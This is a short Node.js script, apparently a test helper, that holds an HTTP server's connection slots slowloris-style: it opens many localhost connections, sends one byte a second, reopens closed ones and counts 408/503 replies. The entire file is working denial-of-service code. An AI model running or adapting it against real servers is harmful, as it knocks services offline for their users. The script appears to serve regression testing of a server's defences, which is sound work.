// Holds an HTTP server's connection slots without a token: COUNT connections to 127.0.0.1:PORT,
// each sending one byte of a request head a second, and each opened again at once when the
// server closes it (as the slowloris probe of issue 31 did).
//
//   node slotattacker.mjs PORT COUNT
// Prints {"ready":true,"open":n} once each of the first COUNT has connected, then every second
// {"open":n,"reopened":m,"answers":{"408":a,"503":b}}. Ends when its stdin closes (or it is killed).
import net from 'node:net';

const [port, count] = process.argv.slice(2).map(Number);
const head = 'GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slow\r\n\r\n';
let open = 0;
let reopened = 0;
let firstConnected = 0;
const answers = {};

function attack(again) {
    if (again)
        ++reopened;
    const socket = net.connect(port, '127.0.0.1');
    let sent = 0;
    let timer = null;
    let connected = false;
    const trickle = () => socket.write(head[sent++ % head.length]);
    socket.on('connect', () => {
        connected = true;
        ++open;
        trickle();
        timer = setInterval(trickle, 1000);
        if (!again && ++firstConnected === count)
            console.log(JSON.stringify({ready: true, open}));
    });
    socket.on('data', (bytes) => {
        const status = /^HTTP\/1\.1 (\d+)/.exec(bytes.toString('latin1'));
        if (status)
            answers[status[1]] = (answers[status[1]] ?? 0) + 1;
    });
    socket.on('error', () => {});
    socket.on('close', () => {
        clearInterval(timer);
        if (connected)
            --open;
        setImmediate(() => attack(true));
    });
}

for (let i = 0; i < count; ++i)
    attack(false);
setInterval(() => console.log(JSON.stringify({open, reopened, answers})), 1000);
process.stdin.on('end', () => process.exit(0));
process.stdin.resume();
